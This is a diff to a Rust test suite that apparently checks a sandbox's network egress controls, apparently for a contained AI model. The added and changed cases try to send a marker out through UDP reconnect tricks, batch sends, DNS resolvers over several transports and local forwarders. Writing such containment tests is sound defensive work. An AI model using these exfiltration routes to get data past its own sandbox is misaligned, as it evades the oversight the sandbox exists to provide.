@@ -29,17 +29,17 @@ attacks! {
     });
     out_udp_reconnected: |s| s.inside(|| {
         let fd = udp(at(ABROAD, 53))?;
-        connect(&fd, at("198.51.100.2", 53))?;
+        connect(&fd, at("198.51.100.2", 443))?;
         connect(&fd, at(ABROAD, 53))?;
         send(&fd, &s.marker)
     });
     out_udp_sendmmsg: |s| s.inside(|| {
-        let to = [at("198.51.100.2", 53), at(ABROAD, 53)];
+        let to = [at("198.51.100.2", 443), at(ABROAD, 53)];
         sockets::send_many(&udp(to[0])?, &s.marker, &to)
     });
     out_udp_connected_to_an_allowed_host_sent_elsewhere: |s| s.inside(|| {
         let fd = udp(at(ABROAD, 53))?;
-        connect(&fd, at("198.51.100.2", 53))?;
+        connect(&fd, at("198.51.100.2", 443))?;
         send_to(&fd, &s.marker, at(ABROAD, 53))
     });
     out_udp_family_unspecified: |s| s.inside(|| {
@@ -266,6 +266,10 @@ attacks! {
         nix::unistd::setuid(65_534.into())?;
         datagram(at(ABROAD, 53), &s.marker)
     });
+    out_resolver_of_an_allowed_region: |s| s.inside(|| ask(s, 53, false));
+    out_resolver_of_an_allowed_region_tcp: |s| s.inside(|| ask(s, 53, true));
+    out_resolver_of_an_allowed_region_tls: |s| s.inside(|| ask(s, 853, true));
+    out_resolver_of_an_allowed_region_quic: |s| s.inside(|| ask(s, 853, false));
     out_local_resolver: |s| by_forwarder(s, "127.0.0.53", libc::SOCK_DGRAM);
     out_local_forwarder_tcp: |s| by_forwarder(s, "127.0.0.1", libc::SOCK_STREAM);
     out_local_forwarder_on_an_own_address: |s| by_forwarder(s, "192.0.2.1", libc::SOCK_STREAM);
@@ -333,6 +337,22 @@ fn device(fd: &std::os::fd::OwnedFd) -> io::Result<()> {
 fn own_address(s: &Scene<'_>) -> io::Result<Gain> {
     let fd = tcp(at(ABROAD, 443))?;
     speak(&fd, at(ABROAD, 443), &s.marker)
+}
+
+/// A question to a resolver whose region is right, but that nobody named. The control goes abroad, where it can be heard.
+fn ask(s: &Scene<'_>, port: u16, stream: bool) -> io::Result<Gain> {
+    if !s.guarded {
+        return if stream { dial(at(ABROAD, 443), &s.marker) } else { datagram(at(ABROAD, 53), &s.marker) };
+    }
+    let to = at("198.51.100.2", port);
+    if stream {
+        // Nobody listens there: the kernel's refusal differs from the host's.
+        return match connect(&tcp(to)?, to) {
+            Err(error) if error.raw_os_error() == Some(libc::EPERM) => Err(error),
+            _ => Ok(Gain::Through),
+        };
+    }
+    datagram(to, &s.marker).map(|_| Gain::Through)
 }
 
 /// A daemon of this host takes what the model says, and would carry it abroad under its own name.
